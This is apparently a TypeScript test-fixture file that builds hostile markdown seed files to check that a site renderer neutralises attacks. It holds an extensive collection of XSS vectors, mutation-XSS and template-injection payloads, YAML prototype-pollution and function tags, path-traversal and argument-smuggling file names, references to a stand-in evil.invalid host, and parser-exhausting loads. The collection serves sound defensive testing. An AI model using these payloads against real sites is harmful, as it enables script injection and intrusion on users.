/**
 * Files that somebody with bad intentions might put into a folder of seeds, by class.
 *
 * Every file is an acceptable article around one attack: its headline begins with `敌`, so that a
 * page made from it can be recognised. Whoever renders them must see no dialog, no request to
 * another origin, no console error; the name of an attack never appears as a global.
 */
import { withHeader } from "./support.ts";

export interface HostileCase {
	readonly name: string;
	readonly class: string;
	readonly file: { readonly path: string; readonly text: string };
}

/** What an attack runs when it gets through: a dialog and a global that nobody else sets. */
const run = "alert(1);window.pwned=1";
const far = "https://evil.invalid/x";

const inBody: Readonly<Record<string, readonly string[]>> = {
	script: [
		`<script>${run}</script>`,
		`<SCRIPT SRC=${far}></SCRIPT>`,
		`<script/x>${run}</script>`,
		`<script\n>${run}</script\n>`,
		`<scr<script>ipt>${run}</scr</script>ipt>`,
		`<script>${run}`,
		`<<script>${run}//<</script>`,
		`<script type="module">${run}</script>`,
		`<script type=text/javascript async src="//evil.invalid/x"></script>`,
		`<p><script>${run}</script>文</p>`,
		`<noscript><p title="</noscript><script>${run}</script>">`,
		`<template><script>${run}</script></template>`,
		`<xmp><script>${run}</script></xmp>`,
		`<plaintext><script>${run}</script>`,
		`<textarea></textarea><script>${run}</script>`,
		`<title></title><script>${run}</script>`,
		`<listing>&lt;script&gt;${run}&lt;/script&gt;</listing>`,
		`<pre>&lt;script&gt;${run}&lt;/script&gt;</pre>`,
		`&lt;script&gt;${run}&lt;/script&gt;`,
		`&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
	],
	handlers: [
		`<img src=x onerror="${run}">`,
		`<img src=x onerror=${run}//`,
		`<img src=x:x onerror\n=\n"${run}">`,
		`<img src="https://example.org/a.jpg" onload="${run}">`,
		`<IMG """><SCRIPT>${run}</SCRIPT>">`,
		`<img/src='x'/onerror='${run}'>`,
		`<body onload="${run}">`,
		`<div onmouseover="${run}" style="position:fixed;inset:0">文</div>`,
		`<p onclick="${run}" tabindex=0 autofocus onfocus="${run}">文</p>`,
		`<details open ontoggle="${run}"><summary>文</summary>文</details>`,
		`<video src=x onerror="${run}"></video>`,
		`<audio src=x onloadstart="${run}"></audio>`,
		`<video><source onerror="${run}"></video>`,
		`<marquee onstart="${run}">文</marquee>`,
		`<select autofocus onfocus="${run}"><option>文</select>`,
		`<input autofocus onfocus="${run}">`,
		`<a href="https://example.org/" onclick="${run}" ONMOUSEOVER="${run}">文</a>`,
		`<table><tr><td onpointerover="${run}">甲</td><td>乙</td></tr></table>`,
		`<time datetime="2023-01-01" onanimationstart="${run}" style="animation:x">文</time>`,
		`<p\x0conclick="${run}">文</p>`,
	],
	"script addresses": [
		`<a href="javascript:${run}">文</a>`,
		`<a href="JaVaScRiPt:${run}">文</a>`,
		`<a href=" javascript:${run}">文</a>`,
		`<a href="&#1;javascript:${run}">文</a>`,
		`<a href="java\nscript:${run}">文</a>`,
		`<a href="java&#10;script:${run}">文</a>`,
		`<a href="java&Tab;script:${run}">文</a>`,
		`<a href="java&#x0D;script:${run}">文</a>`,
		`<a href="javascript&colon;${run}">文</a>`,
		`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}">文</a>`,
		`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${run}">文</a>`,
		`<a href="javascript://example.org/%0A${run}">文</a>`,
		`<a href="vbscript:msgbox(1)">文</a>`,
		`<a href="data:text/html,<script>${run}</script>">文</a>`,
		`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">文</a>`,
		`<a href="blob:https://example.org/1">文</a>`,
		`<a href="filesystem:https://example.org/1">文</a>`,
		`<a href="file:///etc/passwd">文</a>`,
		`<a href="view-source:https://example.org/">文</a>`,
		`<a href="intent://example.org#Intent;scheme=javascript;end">文</a>`,
		`<a href="https://user:pass@evil.invalid/">文</a>`,
		`<img src="javascript:${run}">`,
		`<img data-src="javascript:${run}" src="javascript:${run}">`,
		`<img srcset="javascript:${run} 2x, data:text/html,x 1x">`,
		`<img src="data:image/svg+xml,<svg onload='${run}' xmlns='http://www.w3.org/2000/svg'/>">`,
		`<iframe src="javascript:${run}"></iframe>`,
		`<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
		`<embed src="javascript:${run}">`,
		`<object data="javascript:${run}"></object>`,
		`<form action="javascript:${run}"><button>文</button></form>`,
		`<button formaction="javascript:${run}">文</button>`,
		`<q cite="javascript:${run}">文</q>`,
		`<area href="javascript:${run}" shape=default>`,
		`<video poster="javascript:${run}" src="javascript:${run}"></video>`,
		`<a href="ｊavascript:${run}">文</a>`,
		`<a href="\u200bjavascript:${run}">文</a>`,
		`<a href="\u202ejavascript:${run}">文</a>`,
	],
	"svg and mathml": [
		`<svg onload="${run}"></svg>`,
		`<svg><script>${run}</script></svg>`,
		`<svg><a xlink:href="javascript:${run}"><text y="20">文</text></a></svg>`,
		`<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
		`<svg><set attributeName=href to="javascript:${run}"></svg>`,
		`<svg><foreignObject><body onload="${run}"></foreignObject></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"></svg>`,
		`<svg><image href="${far}.png"></svg>`,
		`<svg><style>@import '${far}';</style></svg>`,
		`<math><maction actiontype="statusline#http://evil.invalid" xlink:href="javascript:${run}">文</maction></math>`,
		`<math href="javascript:${run}">文</math>`,
		`<math><mtext><script>${run}</script></mtext></math>`,
		`<svg><desc><p onclick="${run}">文</p></desc></svg>`,
		`<svg><title><script>${run}</script></title></svg>`,
	],
	mutation: [
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
		`<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
		`<math><annotation-xml encoding="text/html"><style><img src onerror=${run}></style></annotation-xml></math>`,
		`<noscript><style></noscript><img src=x onerror=${run}></style>`,
		`<p title="</p><img src=x onerror=${run}>">文</p>`,
		`<img alt="\`><img src=x onerror=${run}>" src="https://example.org/a.jpg">`,
		`<a title='"><img src=x onerror=${run}>' href="https://example.org/">文</a>`,
		`<abbr title="&lt;/abbr&gt;&lt;script&gt;${run}&lt;/script&gt;">文</abbr>`,
		`<img src="https://example.org/a.jpg" alt="--&gt;&lt;script&gt;${run}&lt;/script&gt;">`,
		`<time datetime="&quot;&gt;&lt;script&gt;${run}&lt;/script&gt;">文</time>`,
		`<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${run}>"></svg>`,
		`<!--><img src=x onerror=${run}>-->`,
		`<!-- --!><img src=x onerror=${run}> -->`,
		`<![CDATA[<img src=x onerror=${run}>]]>`,
		`<?xml version="1.0"?><img src=x onerror=${run}>`,
		`</br><img src=x onerror=${run}></p>`,
		`<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${run}>">`,
		`<table><td><form><table></form><script>${run}</script>`,
		`<b><p><a href="https://example.org/"><b><div></a><img src=x onerror=${run}></b>`,
		`<pre>\n\n<img src=x onerror=${run}></pre>`,
		`<ruby>文<rt>一<span><rp>（</rp><rt>二</rt></span></rt></ruby><rt>三</rt>`,
		`<ruby>文<rt><script>${run}</script></rt></ruby>`,
	],
	frames: [
		`<iframe srcdoc="<script>${run}</script>"></iframe>`,
		`<iframe srcdoc="&lt;img src=x onerror=${run}&gt;" src="${far}"></iframe>`,
		`<iframe src="${far}" onload="${run}"></iframe>`,
		`<frameset onload="${run}"><frame src="javascript:${run}"></frameset>`,
		`<object data="${far}" type="text/html"></object>`,
		`<embed src="${far}.swf" allowscriptaccess=always>`,
		`<applet code="x.class" codebase="${far}"></applet>`,
		`<portal src="${far}"></portal>`,
		`<fencedframe src="${far}"></fencedframe>`,
		`<iframe title="<script>${run}</script>" src="https://example.org/v"></iframe>`,
	],
	style: [
		`<style>body{background:url(${far})}</style>`,
		`<style>@import url(${far});</style>`,
		`<link rel=stylesheet href="${far}">`,
		`<link rel=prefetch href="${far}"><link rel=dns-prefetch href="//evil.invalid">`,
		`<p style="background:url(${far})">文</p>`,
		`<p style="background:url('javascript:${run}')">文</p>`,
		`<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">文</div>`,
		`<p style="width:expression(${run})">文</p>`,
		`<p style="behavior:url(${far});-moz-binding:url(${far})">文</p>`,
		`<a href="https://example.org/" style="display:block;position:absolute;inset:0">文</a>`,
		`<font size="9999" color="red" face="x;}body{display:none">文</font>`,
		`<body background="${far}"><table background="${far}"><tr><td background="${far}">文</td></tr></table>`,
	],
	clobbering: [
		`<img id=getElementById name=getElementById src="https://example.org/a.jpg">`,
		`<form id=document><input name=body></form>`,
		`<a id=defaultView href="https://example.org/">文</a><a id=defaultView name=x href="https://example.org/">文</a>`,
		`<p id="p1">甲</p><p id="p1">乙</p><p id="__proto__">丙</p>`,
		`<p id="search">甲</p><p id="main" name="cookie">乙</p>`,
		`<h2 id="constructor">甲</h2><p>乙</p>`,
		`<li id="p999999">甲</li>`,
		`<figure id="f1"><img src="https://example.org/a.jpg" id="f1" name="f1"></figure>`,
		`<a href="#constructor">甲</a><a href="#__proto__">乙</a><p id="x">丙</p>`,
	],
	page: [
		`<base href="${far}"><a href="x">文</a>`,
		`<base target=_parent><p>文</p>`,
		`<meta http-equiv=refresh content="0;url=${far}">`,
		`<meta http-equiv="Content-Security-Policy" content="default-src *">`,
		`<meta name=referrer content=unsafe-url>`,
		`<meta http-equiv="set-cookie" content="a=b">`,
		`<html manifest="${far}"><head><title>x</title></head><body>文</body></html>`,
		`<a href="https://example.org/" target=_blank ping="${far}" download>文</a>`,
		`<a href="https://example.org/" attributionsrc="${far}">文</a>`,
		`<img src="${far}.png" srcset="${far}-2.png 2x" lowsrc="${far}">`,
		`<picture><source srcset="${far}.webp"><img src="${far}.png"></picture>`,
		`<video src="${far}.mp4" poster="${far}.jpg" autoplay></video>`,
		`<audio src="${far}.mp3" autoplay></audio>`,
		`<track src="${far}.vtt" default><bgsound src="${far}">`,
		`<input type=image src="${far}.png">`,
		`<form action="${far}" method=post><input name=password type=password><button>登录</button></form>`,
		`<keygen><isindex action="${far}"><menuitem icon="${far}">`,
		`<dialog open><p>文</p></dialog><div popover id=x>文</div>`,
		`</main></body></html><script>${run}</script>`,
		`</div></div></div></article></section><p>文</p>`,
	],
	templates: [
		`<p>{{ constructor.constructor("${run}")() }}</p>`,
		`<p>{% raw %}{{ 7 * 7 }}{% endraw %}{% include "/etc/passwd" %}</p>`,
		`<p>$\{${run}} \`$\{process.exit(1)}\` #{7*7} <%= 7*7 %></p>`,
		`<p>{{{ content | safe }}} {# x #} {%- set x = 1 -%}</p>`,
		`<p>---js\nmodule.exports = process.exit(1)\n---</p>`,
		`<p ng-app ng-init="${run}" x-data x-init="${run}" v-html="${run}" hx-get="${far}">文</p>`,
		`<p>&#123;&#123; 7*7 &#125;&#125;</p>`,
		`<custom-element is="x-evil"><slot>文</slot></custom-element>`,
	],
	"data in scripts": [
		`<p></script><script>${run}</script></p>`,
		`<p>]]></p><p>--></p><p>\u2028\u2029</p>`,
		`<p>"};${run};{"a":"</p>`,
		`<p>\\u003cscript\\u003e${run}\\u003c/script\\u003e</p>`,
		`<!--<script>--><p></script><img src=x onerror=${run}></p>`,
		`<p>\uFFFE\uFFFF\u0000&#0;&#xD800;&#x1F;</p>`,
	],
};

/** Attacks that are all the work of a parser: deep, wide, long. */
const loads: readonly (readonly [string, () => string])[] = [
	["20,000 nested divisions", () => `${"<div>".repeat(20_000)}文`],
	["20,000 nested inline elements", () => `${"<b>".repeat(20_000)}文`],
	[
		"20,000 nested quotations and lists",
		() => `${"<blockquote><ul><li>".repeat(7_000)}文`,
	],
	["20,000 nested tables", () => `${"<table><tr><td>".repeat(7_000)}文`],
	["20,000 nested drawings", () => `<svg>${"<g>".repeat(20_000)}</svg>`],
	[
		"formatting elements that multiply",
		() =>
			`${Array.from({ length: 200 }, (_, i) => `<font size=${i}>`).join("")}${"<p>文".repeat(50_000)}`,
	],
	["anchors that adopt each other", () => "<a href=x><p>".repeat(20_000)],
	[
		"100,000 attributes",
		() =>
			`<p ${Array.from({ length: 100_000 }, (_, i) => `a${i}`).join(" ")}>文</p>`,
	],
	[
		"100,000 attributes that begin with what parts name and value",
		() =>
			`<p ${Array.from({ length: 100_000 }, (_, i) => `=a${i}=x`).join(" ")}>文</p>`,
	],
	["a million spaces", () => `<p>文${" ".repeat(1_000_000)}文</p>`],
	["a million wide spaces", () => `<p>文${"\u3000".repeat(1_000_000)}文</p>`],
	["three hundred thousand empty paragraphs", () => "<p></p>".repeat(300_000)],
	["three hundred thousand line breaks", () => `文${"<br>".repeat(300_000)}文`],
	[
		"an unclosed tag of four megabytes",
		() => `<p title="${"x".repeat(4_000_000)}`,
	],
	["two megabytes of opened tags", () => "<a".repeat(1_000_000)],
	["a hundred thousand references", () => `<p>${"&lt;".repeat(200_000)}</p>`],
	[
		"one word of a million characters",
		() => `<p>${"汉".repeat(1_000_000)}</p>`,
	],
	[
		"a style of a million properties",
		() => `<p style="${"background:".repeat(300_000)}">文</p>`,
	],
	[
		"a srcset of a million characters",
		() => `<img srcset="${"a ".repeat(500_000)}">`,
	],
	[
		"an address with ten thousand sizes",
		() => `<img src="https://example.org/a.jpg?${"w.".repeat(10_000)}&x=1">`,
	],
	["twenty megabytes", () => "<p>文字文字文字文字</p>".repeat(650_000)],
	[
		"a thousand pictures",
		() =>
			Array.from(
				{ length: 1000 },
				(_, i) => `<img src="https://example.org/${i}.jpg">`,
			).join(""),
	],
];

const heads: readonly (readonly [string, string])[] = [
	[
		"a fence that asks for JavaScript",
		`---js\n{ title: process.exit(3) }\n---\n<p>文</p>`,
	],
	[
		"a fence that asks for JavaScript by its long name",
		`---javascript\nmodule.exports = process.exit(3)\n---\n<p>文</p>`,
	],
	[
		"a fence with a space before its language",
		`--- js\nprocess.exit(3)\n---\n<p>文</p>`,
	],
	[
		"a fence that asks for CoffeeScript",
		`---coffee\nprocess.exit 3\n---\n<p>文</p>`,
	],
	["a fence that asks for JSON", `---json\n{"title":"敌"}\n---\n<p>文</p>`],
	[
		"an alias bomb",
		`---\na: &a [x,x,x,x,x,x,x,x,x]\n${"bcdefghi"
			.split("")
			.map(
				(key, i) =>
					`${key}: &${key} [${Array.from({ length: 9 }, () => `*${"abcdefgh"[i]}`).join(",")}]`,
			)
			.join("\n")}\ntitle: 敌\ntags: *i\n---\n<p>文字文字</p>`,
	],
	[
		"a function in YAML",
		`---\ntitle: !!js/function "function(){${run}}"\nauthor: 敌\n---\n<p>文</p>`,
	],
	[
		"a prototype in YAML",
		`---\n__proto__: {polluted: yes}\nconstructor: {prototype: {polluted: yes}}\ntitle: 敌\n---\n<p>文</p>`,
	],
	[
		"a permalink out of the site",
		`---\ntitle: 敌\npermalink: ../../../etc/cron.d/x\nlayout: ../../x\n---\n<p>文</p>`,
	],
	[
		"Eleventy's own keys",
		`---\ntitle: 敌\neleventyComputed: {permalink: "../x"}\npagination: {data: x, size: 1}\n---\n<p>文</p>`,
	],
	[
		"markup in every field",
		`---\ntitle: "敌</title><script>${run}</script>"\nauthor: "<img src=x onerror=${run}>"\ntags: ["<script>${run}</script>", "\\"><img src=x onerror=${run}>"]\ncategories: ["</script><script>${run}</script>"]\ndate: "<b>2023</b>"\nfrom: "https://example.org/\\"><script>${run}</script>"\n---\n<p>文</p>`,
	],
	[
		"a script as the article's address",
		`---\ntitle: 敌\nfrom: "javascript:${run}"\n---\n<p><a href="x">文</a></p>`,
	],
	[
		"data as the article's address",
		`<!--1-->\n[敌](data:text/html,<script>${run}</script>)\n------\n<p><a href="#x">文</a></p>`,
	],
	[
		"a host that is markup",
		`<!--1700000000000-->\n[敌](https://"><script>${run}</script>/)\n------\n<p>文</p>`,
	],
	[
		"a host of dots",
		`<!--1700000000000-->\n[敌](https://../../../x)\n------\n<p>文</p>`,
	],
	[
		"a headline of markup",
		withHeader("<p>文</p>", {
			title: `敌"><img src=x onerror=${run}><script>${run}</script>`,
		}),
	],
	[
		"a headline of references",
		withHeader("<p>文</p>", { title: `敌&lt;script&gt;${run}&lt;/script&gt;` }),
	],
	[
		"a headline of template strings",
		withHeader("<p>文</p>", { title: `敌{{7*7}}$\{7*7}{%x%}<%=7*7%>` }),
	],
	[
		"a headline that turns around",
		withHeader("<p>文</p>", { title: "敌\u202egpj.exe\u2066\u200b\u00ad" }),
	],
	[
		"a headline of a hundred thousand characters",
		withHeader("<p>文</p>", { title: `敌${"长".repeat(100_000)}` }),
	],
	[
		"a headline of path tricks",
		withHeader("<p>文</p>", { title: "敌/../../etc/passwd\\..\\con.txt%00" }),
	],
	[
		"a stamp beyond all time",
		withHeader("<p>文</p>", { stamp: "99999999999999999999", title: "敌" }),
	],
	[
		"a negative stamp",
		withHeader("<p>文</p>", { stamp: "-62135596800001", title: "敌" }),
	],
];

const paths: readonly string[] = [
	"../../etc/passwd",
	"a/../../b.md",
	"con.md",
	"nul",
	"a\u0000b.md",
	"a\nb.md",
	"<img src=x onerror=alert(1)>.md",
	`"><script>${run}</script>.md`,
	"javascript:alert(1).md",
	"{{7*7}}.md",
	"2023-13-45-x.md",
	".md",
	" .md ",
	"a\u202egpj.md",
	`${"长".repeat(80)}.md`,
	"-rf.md",
	"%2e%2e%2fx.md",
	"__proto__",
];

export const hostileCases: readonly HostileCase[] = [
	...Object.entries(inBody).flatMap(([kind, bodies]) =>
		bodies.map((body, index) => ({
			name: `${kind} ${index + 1}: ${body.slice(0, 60).replace(/[^\x20-\x7e]+/g, " ")}`,
			class: kind,
			file: {
				path: `hostile-${kind.replaceAll(" ", "-")}-${index + 1}.md`,
				text: withHeader(`<p>开头一段文字。</p>${body}<p>结尾一段文字。</p>`, {
					title: `敌 ${kind} ${index + 1}`,
					url: `https://example.org/${encodeURIComponent(kind)}/${index + 1}`,
				}),
			},
		})),
	),
	...heads.map(([name, text], index) => ({
		name,
		class: "heads",
		file: { path: `hostile-head-${index + 1}.md`, text },
	})),
	...paths.map((path, index) => ({
		name: `the file name ${JSON.stringify(path).slice(0, 60)}`,
		class: "file names",
		file: {
			path,
			text: withHeader("<p>文字文字。</p>", {
				title: `敌 path ${index + 1}`,
				url: `https://example.org/path/${index + 1}`,
			}),
		},
	})),
	...loads.map(([name, body], index) => ({
		name,
		class: "loads",
		file: {
			path: `hostile-load-${index + 1}.md`,
			/** Made when asked for: some have megabytes. */
			get text() {
				return withHeader(body(), {
					title: `敌 load ${index + 1}`,
					url: `https://example.org/load/${index + 1}`,
				});
			},
		},
	})),
];
